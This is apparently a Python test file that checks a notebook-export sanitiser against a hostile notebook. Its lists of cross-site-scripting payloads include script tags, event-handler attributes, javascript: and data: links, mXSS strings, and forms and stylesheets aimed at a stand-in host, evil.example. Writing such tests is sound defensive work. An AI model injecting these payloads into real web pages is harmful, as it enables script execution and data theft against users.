"""``kit export`` of a hostile notebook (issue 11 item 2): markdown, raw cells and outputs go through one sanitiser.

The notebook is built with saved outputs (nothing is executed). The page is opened from
``file://`` in headless Chromium with every request routed: only the page itself may load;
any dialog (``alert``), extra frame or request fails the test. The kit's own plotly chart must
still be drawn.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from tests.conftest import ROOT

ATTACKS_MARKDOWN = [
    "# Case notes\n<script>alert('md-script')</script>",
    '<iframe srcdoc="<script>parent.alert(\'srcdoc\')</script>"></iframe>',
    "[click me](javascript:alert('md-link'))",
    '<a href="javascript:alert(\'a-href\')">raw link</a> <a href="JaVaScRiPt&#58;alert(1)">encoded</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a> <a href="vbscript:x">vb</a>',
    "<img src=x onerror=\"alert('onerror')\">",
    "<svg onload=\"alert('svg-onload')\"><circle r=5 /></svg>",
    "<details open ontoggle=\"alert('ontoggle')\"><summary>s</summary>x</details>",
    '<form action="https://evil.example/steal"><input name=q><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/b.png)}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="background-image:url(https://evil.example/c.png)">styled</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "Safe links: [site](https://example.org/a), [mail](mailto:coach@example.org), [top](#case-notes)",
]

ATTACK_OUTPUTS = [
    {"output_type": "display_data", "metadata": {}, "data": {
        "text/html": "<b>bold</b><img src=x onerror=\"alert('out-html')\"><script>alert('out-script')</script>",
        "text/plain": "x"}},
    {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "<script>alert('out-md')</script>*md*"}},
    {"output_type": "display_data", "metadata": {}, "data": {
        "text/vnd.mermaid": "graph TD\n</pre><script>alert('mermaid')</script>"}},
    {"output_type": "display_data", "metadata": {}, "data": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('svg-out')\"><script>alert('svg-s')</script></svg>"}},
    {"output_type": "display_data", "metadata": {"kit_trusted": "guess"}, "data": {
        "text/html": "<script>alert('forged-trust')</script>"}},
    {"output_type": "display_data", "metadata": {}, "data": {
        "application/javascript": "alert('js-output')", "text/plain": "js"}},
    {"output_type": "display_data", "metadata": {}, "data": {
        "application/vnd.plotly.v1+json": {"data": [{"type": "bar", "x": ["a", "b"], "y": [1, 3]}], "layout": {}}}},
]


def _hostile_notebook(path: Path) -> Path:
    nb = nbformat.v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                           "language": "python"}})
    for src in ATTACKS_MARKDOWN:
        nb.cells.append(nbformat.v4.new_markdown_cell(src))
    nb.cells.append(nbformat.v4.new_raw_cell("<script>alert('raw')</script><img src=x onerror=alert('raw-img')>"))
    html_raw = nbformat.v4.new_raw_cell("<script>alert('raw-html')</script>")
    html_raw.metadata["raw_mimetype"] = "text/html"
    nb.cells.append(html_raw)
    code = nbformat.v4.new_code_cell("show()")
    code.outputs = [nbformat.from_dict(o) for o in ATTACK_OUTPUTS]
    nb.cells.append(code)
    nbformat.write(nb, path)
    return path


def _export(nb: Path, out: Path) -> Path:
    res = subprocess.run([sys.executable, "-m", "kit", "export", str(nb), "--out", str(out)], capture_output=True,
                         text=True, cwd=ROOT, timeout=120)
    assert res.returncode == 0, res.stderr
    return Path(res.stdout.strip())


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile")
    return _export(_hostile_notebook(tmp / "hostile.ipynb"), tmp / "hostile.html")


def test_exported_page_carries_no_script_handler_frame_or_bad_link(exported):
    text = exported.read_text(encoding="utf-8")
    body = text.split("</head>", 1)[1]
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", body, flags=re.S | re.I)
    assert len(scripts) == 1 and "Plotly.newPlot" in scripts[0]  # only the kit's own chart
    assert not re.search(r"<[^>]*alert\(", body.replace(scripts[0], ""))  # only as escaped text, never in a tag
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", body, flags=re.I)
    for tag in ("iframe", "object", "embed", "form", "meta", "link", "style", "math", "base"):
        assert not re.search(rf"<{tag}\b", body, flags=re.I), tag
    for href in re.findall(r'\shref="([^"]*)"', body):
        assert re.match(r"(https?:|mailto:|#)", href), href
    assert "https://example.org/a" in body and "mailto:coach@example.org" in body and 'href="#case-notes"' in body
    assert "evil.example" not in body


def test_sanitiser_allows_the_kits_own_markup_and_plain_links():
    from kit.handout.offline_html import sanitize_html

    kit_markup = ('<section class="kit-section" role="region"><h2>Why</h2><table class="kit-facts"><tr>'
                  '<th scope="row">Pain</th><td>7</td></tr></table><div class="kit-bar"><span style="width:40%"></span>'
                  '</div><a href="https://example.org/x">src</a></section>')
    out = sanitize_html(kit_markup)
    for kept in ('<section class="kit-section" role="region">', '<th scope="row">Pain</th>', '<span style="width:40%">',
                 '<table class="kit-facts">', 'href="https://example.org/x"'):
        assert kept in out, (kept, out)
    assert sanitize_html('<a href="page.html">x</a><a href="//evil.example/">y</a>').count("href") == 0  # only http(s), mailto, #
    assert 'id="kit-chart-1"' not in sanitize_html('<div id="kit-chart-1">x</div>')  # cannot take the kit's chart slot


@pytest.mark.browser
def test_hostile_export_opens_without_dialog_request_or_frame_and_keeps_the_chart(browser, exported):
    page = browser.new_page(viewport={"width": 1000, "height": 1200})
    seen = {"requests": [], "dialogs": []}

    def route(r):
        if r.request.url == exported.as_uri():
            r.continue_()
        else:
            seen["requests"].append(r.request.url)
            r.abort()

    page.route("**/*", route)
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    try:
        page.goto(exported.as_uri())
        page.wait_for_load_state("load")
        page.wait_for_selector(".js-plotly-plot .plotly svg.main-svg", timeout=15000)  # the kit's chart is drawn
        # click every link that is not a web or mail link: a javascript: URL would run now
        page.eval_on_selector_all("a", "els => els.filter(e => !/^(https?|mailto):/i.test(e.getAttribute('href') || ''))"
                                       ".forEach(e => e.click())")
        page.wait_for_timeout(500)
        assert seen["dialogs"] == []
        assert seen["requests"] == []
        assert len(page.frames) == 1  # no iframe
        hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
        assert all(h.split(":", 1)[0] in ("http", "https", "mailto", "file") for h in hrefs), hrefs
    finally:
        page.close()


def test_export_help_and_docs_say_that_execute_runs_the_notebooks_code():
    res = subprocess.run([sys.executable, "-m", "kit", "export", "--help"], capture_output=True, text=True, cwd=ROOT,
                         timeout=60)
    text = " ".join(res.stdout.split())
    assert "RUN the notebook's code" in text and "only for a notebook you trust" in text
    doc = " ".join((ROOT / "docs" / "handouts.md").read_text(encoding="utf-8").split())
    assert "`kit export --execute` runs the notebook's code" in doc and "without** `--execute` unless you trust" in doc
